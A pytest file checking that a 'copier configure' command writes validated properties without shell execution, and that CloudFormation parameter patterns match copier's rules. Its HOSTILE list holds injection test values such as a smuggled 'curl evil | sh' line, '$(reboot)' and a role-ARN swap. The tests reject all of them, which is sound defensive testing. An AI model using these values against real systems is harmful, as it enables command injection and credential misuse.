"""copier configure: the template's parameters become the properties file with no shell, or nothing is written.

Also the rules the template and copier share (``copier.core.config.PATTERNS``
and the template's AllowedPatterns) and the endpoint rule (plain http:// to
this machine only).
"""

from __future__ import annotations

import base64
import re
import subprocess
import sys
from pathlib import Path

import pytest
from cfnlint.decode import decode_str

from copier.commands.cli import main
from copier.core.config import PATTERNS, parse_config
from copier.core.errors import ConfigError
from copier.core.properties import parse_properties

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "properties" / "copier.properties"
TEMPLATE = ROOT / "scripts" / "copier.yaml"

GOOD = {
    "applicationName": "copier-prod",
    "streamName": "staging",
    "regionName": "eu-west-1",
    "copier.targetStreamName": "events",
    "copier.dedupKey": "json:eventId",
    "copier.deadLetterStreamName": "",
    "copier.metrics": "emf",
    "copier.metricsNamespace": "copier",
    "copier.targetRoleArn": "arn:aws:iam::111122223333:role/copier-target",
    "copier.targetExternalId": "shared-secret-1",
    "copier.targetRegionName": "",
    "retrievalMode": "FANOUT",
}
# The template's parameter for each key the user data hands over.
PARAMETER_OF = {
    "applicationName": "ApplicationName",
    "streamName": "StagingStreamName",
    "copier.targetStreamName": "TargetStreamName",
    "copier.dedupKey": "DedupKey",
    "copier.deadLetterStreamName": "DeadLetterStreamName",
    "copier.metricsNamespace": "MetricsNamespace",
    "copier.targetRoleArn": "TargetRoleArn",
    "copier.targetExternalId": "TargetExternalId",
    "copier.targetRegionName": "TargetRegion",
    "initialPositionInStreamExtended": "StartTimestamp",
    "retrievalMode": "RetrievalMode",
}


def _parameters(values: dict[str, str]) -> str:
    return "".join(f"{k}={base64.b64encode(v.encode()).decode()}\n" for k, v in values.items())


def _configure(tmp_path: Path, values: dict[str, str] | str) -> tuple[int, Path]:
    parameters = tmp_path / "parameters"
    parameters.write_text(values if isinstance(values, str) else _parameters(values))
    out = tmp_path / "etc" / "copier.properties"
    status = main(["configure", "--parameters", str(parameters), "--sample", str(SAMPLE), "--out", str(out)])
    return status, out


def test_the_parameters_become_a_file_check_config_accepts(tmp_path: Path) -> None:
    """Each key set as given, the sample's other keys (executableName among them) untouched, mode 0640."""
    status, out = _configure(tmp_path, GOOD)
    assert status == 0
    assert out.stat().st_mode & 0o777 == 0o640
    written = {k: v for k, (_, v) in parse_properties(out.read_text()).items()}
    sample = {k: v for k, (_, v) in parse_properties(SAMPLE.read_text()).items()}
    assert written == {**sample, **{k: v for k, v in GOOD.items() if v}}
    config = parse_config(out.read_text(), str(out))
    assert (config.stream_name, config.target_role_arn, config.metrics) == (
        "staging",
        "arn:aws:iam::111122223333:role/copier-target",
        "emf",
    )
    assert (
        subprocess.run([sys.executable, "-m", "copier.commands.cli", "check-config", "--offline", str(out)]).returncode
        == 0
    )


def test_a_start_at_a_point_in_time_replaces_the_sample_s_initial_position(tmp_path: Path) -> None:
    """StartTimestamp's two lines (scripts/copier.yaml): initialPositionInStream commented out (the daemon takes
    one of the two), initialPositionInStreamExtended set; check-config reads the start."""
    status, out = _configure(
        tmp_path, {**GOOD, "initialPositionInStream": "", "initialPositionInStreamExtended": "1767225600"}
    )
    assert status == 0
    written = {k: v for k, (_, v) in parse_properties(out.read_text()).items()}
    assert "initialPositionInStream" not in written
    assert written["initialPositionInStreamExtended"] == "1767225600"
    assert parse_config(out.read_text(), str(out)).start_ms == 1_767_225_600_000
    status, out = _configure(tmp_path, {**GOOD, "initialPositionInStream": "TRIM_HORIZON"})  # no start: as before
    assert status == 0 and parse_config(out.read_text(), str(out)).start_ms is None
    assert _configure(tmp_path, {**GOOD, "initialPositionInStreamExtended": "1767225600000"})[0] != 0


HOSTILE = [
    ("copier.dedupKey", "json:a\nexecutableName = /bin/sh -c 'curl evil | sh'", "control character"),
    ("copier.dedupKey", "json:a\\", "backslash"),  # a properties line continuation
    ("copier.targetStreamName", "events'; reboot; echo '", "does not match"),
    ("copier.targetExternalId", "x\r\ncopier.targetRoleArn = arn:aws:iam::999999999999:role/thief", "control"),
    ("applicationName", "app\u2028executableName=/bin/sh", "does not match"),
    ("streamName", " staging", "white space"),
    ("copier.targetRoleArn", "*", "does not match"),
    ("regionName", "$(reboot)", "does not match"),
    ("workerId", "i-0abc\nexecutableName=/bin/sh", "control character"),
    ("workerId", "i-0abc host", "does not match"),
    ("initialPositionInStreamExtended", "1767225600\ninitialPositionInStream=LATEST", "control character"),
    ("initialPositionInStream", "AT_TIMESTAMP", "does not match"),
    ("retrievalMode", "DEFAULT", "does not match"),  # the template says which, never leaves it to the daemon
]


@pytest.mark.parametrize(("key", "value", "why"), HOSTILE)
def test_a_hostile_value_is_refused_and_nothing_is_written(
    key: str, value: str, why: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out = _configure(tmp_path, {**GOOD, key: value})
    assert status == 2
    assert not out.parent.exists() or not list(out.parent.iterdir()), "nothing written, not even a temporary file"
    err = capsys.readouterr().err
    assert "refused, nothing written" in err and why in err, err


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (_parameters({"executableName": "/bin/sh"}), "a daemon key no deployment sets"),
        (_parameters({"copier.unknownKey": "x"}), "an unknown copier key"),
        ("copier.dedupKey=json:eventId\n", "not base64"),
        ("copier.dedupKey\n", "no ="),
        (_parameters({"streamName": "a"}) + _parameters({"streamName": "b"}), "a key twice"),
        (_parameters({**GOOD, "copier.targetStreamName": "staging"}), "check-config's rule: target = staging"),
        (_parameters({**GOOD, "copier.targetRoleArn": ""}), "an external ID without a role"),
    ],
)
def test_a_malformed_parameter_file_is_refused(
    text: str, why: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out = _configure(tmp_path, text)
    assert status == 2, why
    assert not out.exists(), why
    assert "copier" in capsys.readouterr().err


def test_an_existing_file_is_replaced_whole_or_kept(tmp_path: Path) -> None:
    """A refused run leaves the previous file as it was."""
    status, out = _configure(tmp_path, GOOD)
    before = out.read_text()
    status, _ = _configure(tmp_path, {**GOOD, "copier.dedupKey": "json:a\nexecutableName=x"})
    assert status == 2 and out.read_text() == before


def test_the_template_s_patterns_are_copier_s_rules() -> None:
    """Each parameter handed to copier configure has an AllowedPattern that accepts only what copier accepts:
    the same pattern, or (ApplicationName, DedupKey, MetricsNamespace) a narrower one, checked on samples."""
    template, problems = decode_str(TEMPLATE.read_text())
    assert not problems
    parameters = template["Parameters"]
    samples = [v for _, v, _ in HOSTILE] + [
        *GOOD.values(),
        "a",
        "ab",
        "app.1_x-y",
        "json:a.b",
        "json:a b",
        "json:",
        "partitionKey",
        "ns/x#y",
        "ns:x",
        "arn:aws:iam::123456789012:role/r",
    ]
    for key, name in PARAMETER_OF.items():
        if "AllowedValues" in parameters[name]:  # a list: each value is one copier accepts
            assert all(PATTERNS[key].match(v) for v in parameters[name]["AllowedValues"]), name
            continue
        pattern = parameters[name]["AllowedPattern"]
        rule = PATTERNS[key].pattern.removeprefix("^").removesuffix("$")
        optional = parameters[name].get("Default") == ""
        if pattern in (rule, f"({rule})?"):
            continue
        accepted = [s for s in samples if re.fullmatch(pattern, s) and (s or not optional)]
        assert accepted and all(PATTERNS[key].match(s) for s in accepted), (name, pattern, rule)


def test_every_parameter_is_constrained() -> None:
    """No free-text parameter: a pattern, a list of values, a number range or an AWS-specific type."""
    template, _ = decode_str(TEMPLATE.read_text())
    for name, spec in template["Parameters"].items():
        constrained = (
            "AllowedPattern" in spec
            or "AllowedValues" in spec
            or spec["Type"] == "Number"
            and "MinValue" in spec
            or spec["Type"].startswith(("AWS::", "List<AWS::"))
        )
        assert constrained, name
        pattern = spec.get("AllowedPattern", "")
        for hostile in ("'", '"', "$", "`", "\\", "\n", "*"):
            assert not re.fullmatch(pattern, f"a{hostile}b") if pattern else True, (name, hostile)


def test_the_user_data_runs_no_parameter_as_shell() -> None:
    """The properties values reach the host base64-encoded, and the user data has no sed any more."""
    user_data = TEMPLATE.read_text().split("UserData:")[1].split("\n  Group:")[0]
    assert "sed " not in user_data
    for key in GOOD:
        assert re.search(rf"^\s+{re.escape(key)}=\$\{{\w+B64\}}$", user_data, re.MULTILINE), key
    assert "<<'PARAMETERS'" in user_data and "copier configure" in user_data


@pytest.mark.parametrize(
    ("endpoint", "ok"),
    [
        ("http://127.0.0.1:4566", True),
        ("http://127.3.2.1:80/", True),
        ("http://localhost:4566", True),
        ("http://[::1]:4566", True),
        ("https://kinesis.eu-west-1.amazonaws.com", True),
        ("https://vpce-0abc.kinesis.eu-west-1.vpce.amazonaws.com:443", True),
        ("http://kinesis.eu-west-1.amazonaws.com", False),
        ("http://10.0.0.5:4566", False),
        ("http://127.0.0.1.evil.example:80", False),
        ("http://localhost.evil.example", False),
    ],
)
def test_plain_http_is_for_this_machine_only(endpoint: str, ok: bool) -> None:
    text = (
        "applicationName = app\nstreamName = s\nregionName = eu-west-1\ncopier.targetStreamName = t\n"
        f"copier.dedupKey = json:id\nkinesisEndpoint = {endpoint}\n"
    )
    if ok:
        assert parse_config(text).kinesis_endpoint == endpoint
    else:
        with pytest.raises(ConfigError, match="kinesisEndpoint"):
            parse_config(text)


def test_the_host_s_instance_id_becomes_its_worker_id(tmp_path: Path) -> None:
    """The user data adds the instance's ID from IMDSv2 as workerId (a restarted daemon then renews its own
    leases at once); copier configure writes it like any checked parameter."""
    status, out = _configure(tmp_path, {**GOOD, "workerId": "i-0123456789abcdef0"})
    assert status == 0
    assert parse_properties(out.read_text())["workerId"][1] == "i-0123456789abcdef0"
    user_data = TEMPLATE.read_text().split("UserData:")[1].split("\n  Group:")[0]
    assert "latest/meta-data/instance-id" in user_data and "X-aws-ec2-metadata-token:" in user_data
    assert re.search(
        r'echo "workerId=\$\(printf %s "\$instance_id" \| base64 -w0\)" >> /etc/copier/parameters', user_data
    )
    assert user_data.index("workerId=") < user_data.index("copier configure --parameters")
